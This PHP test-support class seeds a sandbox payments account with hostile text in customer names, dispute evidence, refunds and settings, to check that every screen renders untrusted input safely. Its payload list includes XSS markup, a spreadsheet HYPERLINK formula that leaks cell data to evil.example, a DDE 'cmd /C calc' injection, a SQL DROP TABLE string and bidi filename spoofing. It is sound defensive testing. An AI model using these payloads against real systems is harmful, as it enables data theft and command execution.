<?php

declare(strict_types=1);

namespace Tillbook\Tests\Support;

use Tillbook\Platform\Account\AccountSettings;
use Tillbook\Platform\Files\PrivateFolder;
use Tillbook\Platform\Json;
use Tillbook\Provider\EventBatch;
use Tillbook\Provider\Files\NewFile;
use Tillbook\Provider\ProviderRefusal;
use Tillbook\Providers\Sandbox\PaymentPlan;
use Tillbook\Providers\Sandbox\SandboxAccount;
use Tillbook\Providers\Sandbox\SandboxFiles;
use Tillbook\Providers\Sandbox\SandboxProvider;
use Tillbook\Providers\Sandbox\StoreOrders;
use Tillbook\Wiring\Container;

/**
 * Fills a sandbox account with attacks in every untrusted text that a provider, bank, shopper or colleague
 * could set: markup, formulas, direction marks, format strings, null bytes and 10 kB names. Every screen must display
 * this account safely.
 */
final class HostileHistory
{
    /** Global variable that injected markup would set in the browser if it ran. */
    public const FLAG = 'tillbookHacked';
    private const LONG = 10000;

    private function __construct(
        private readonly SandboxAccount $account,
        private readonly ?StoreOrders $orders,
        private readonly SandboxFiles $files,
    ) {}

    /** Adds the attacks to the connected account, with orders that follow their events. */
    public static function add(Container $services): void
    {
        $scope = $services->ledgers()->current();
        if ($scope === null) {
            throw new ProviderRefusal('tillbook_no_account', 'No sandbox account is connected.', 409);
        }
        // Without the merchant's fraud rules, which would block some of the payments.
        $sandbox = new SandboxProvider($services->database, $services->clock, $scope->accountId);
        $files = new SandboxFiles(
            $services->database,
            $services->clock,
            $scope->accountId,
            PrivateFolder::ofEvidence(),
        );
        $events = $sandbox->change(static function (SandboxAccount $account) use ($files): void {
            (new self($account, StoreOrders::available() ? new StoreOrders() : null, $files))->live();
        });
        $inbox = $services->inbox();
        $inbox->receive($scope, EventBatch::of('sandbox', ...$events));
        $inbox->follow($scope);
        $sandbox->confirm(...$events);
    }

    /**
     * Returns the texts with attacks.
     *
     * @return non-empty-list<string>
     */
    public static function texts(): array
    {
        $flag = self::FLAG;

        return [
            "<script>window.$flag=1</script>",
            "\"><img src=x onerror=window.$flag=2>",
            "'><svg/onload=window.$flag=3>",
            "</title></textarea></script><script>window.$flag=4</script>",
            "javascript:window.$flag=5//",
            "&lt;script&gt;window.$flag=6&lt;/script&gt;",
            "<a href=\"javascript:window.$flag=7\">Click</a>",
            '=HYPERLINK("https://evil.example/?"&A1,"Open")',
            '+1+cmd|\' /C calc\'!A0',
            '-2+3+SUM(A1:A9)',
            '@SUM(1+1)',
            "\t=1+1",
            "\r=1+1",
            'a;=1+1',
            'Say "hi", it\'s; a,b' . "\n" . 'line',
            "\u{202E}gpj.exe\u{202C} \u{2066}turned\u{2069}",
            'שלום עולם مرحبا',
            "👩‍👩‍👧‍👦🏴‍☠️ Z\u{0321}\u{034E}a\u{0336}lgo",
            "null\0byte\0",
            "\e[31mred\e]0;title\x07\x1b[2J\x08",
            '%s %n %1$s %d %% {{7*7}} ${7*7} [shortcode] {customer}',
            "'; DROP TABLE wp_users; -- \\",
            'Ｆｕｌｌ <b>bold</b> &amp; &#60;i&#62;',
            str_repeat('LongName ', intdiv(self::LONG, 9)),
            str_repeat("<b>😀\u{202E}", intdiv(self::LONG, 11)),
        ];
    }

    /** Uses every text once as a customer and in the objects that follow a payment. */
    private function live(): void
    {
        $this->fillAccount();
        foreach (self::texts() as $index => $text) {
            $plan = (new PaymentPlan(
                5000 + 100 * $index,
                $index % 5 === 4 ? 'eur' : 'usd',
                name: $text,
                email: $text . '@example.com',
                outcome: $index % 7 === 6 ? 'declined' : 'paid',
                declineReason: $index % 7 === 6 ? substr($text, 0, 60) : 'card_declined',
                manualCapture: $index % 7 === 5,
            ))->withIntent($this->account->books->id('pi'));
            $order = $this->orders?->create(
                $plan,
                $this->account->books->now(),
                $plan->outcome === 'declined' ? 'failed' : ($plan->manualCapture ? 'on-hold' : 'completed'),
                $this->account->books->accountId,
                (string) $plan->intentId,
            );
            $intent = $this->account->pay(
                $order === null ? $plan->elsewhere() : $plan->forOrder($order['id'], $order['number']),
            );
            $charge = Json::text($this->account->books->store->find($intent) ?? [], 'latest_charge') ?? '';
            if ($plan->outcome === 'paid' && !$plan->manualCapture) {
                $index % 2 === 0
                    ? $this->dispute($charge, $text, $index)
                    : $this->account->refund($charge, 100 + $index, substr($text, 0, 60));
            }
        }
        $this->account->keepSurvey('payments-overview', 'happy', implode("\n", array_slice(self::texts(), 0, 20)));
    }

    private function fillAccount(): void
    {
        $texts = self::texts();
        foreach (AccountSettings::TEXTS as $index => $field) {
            $this->account->books->body[$field] = $field === 'logo' ? '' : $texts[$index];
        }
        $this->account->books->body['vat_details'] = [
            'vat_number' => null,
            'name' => $texts[0] . $texts[7],
            'address' => $texts[1] . "\n" . $texts[19],
        ];
        $this->account->books->body['external_accounts'] = array_map(
            static fn(array $bank): array => ['bank_name' => $texts[1], 'last4' => '<b>1'] + $bank,
            Json::objects($this->account->books->body, 'external_accounts'),
        );
    }

    private function dispute(string $charge, string $text, int $index): void
    {
        $dispute = $this->account->disputes->open(
            $charge,
            $index % 4 === 0 ? 'product_not_received' : substr($text, 0, 60),
            $index % 8 === 4,
        );
        $file = $this->files->upload(
            new NewFile(
                mb_substr($text, 0, 180) . '.txt',
                'text/plain',
                $text,
                'dispute_evidence',
                mb_substr($text, 0, 190),
            ),
        );
        $this->account->disputes->respond(
            Json::text($dispute, 'id') ?? '',
            [
                'product_description' => $text,
                'customer_name' => $text,
                'shipping_carrier' => $text,
                'shipping_tracking_number' => $text,
                'uncategorized_text' => $text,
                'uncategorized_file' => $file->id,
            ],
            ['__product_type' => $text],
            $index % 3 === 0,
        );
    }
}
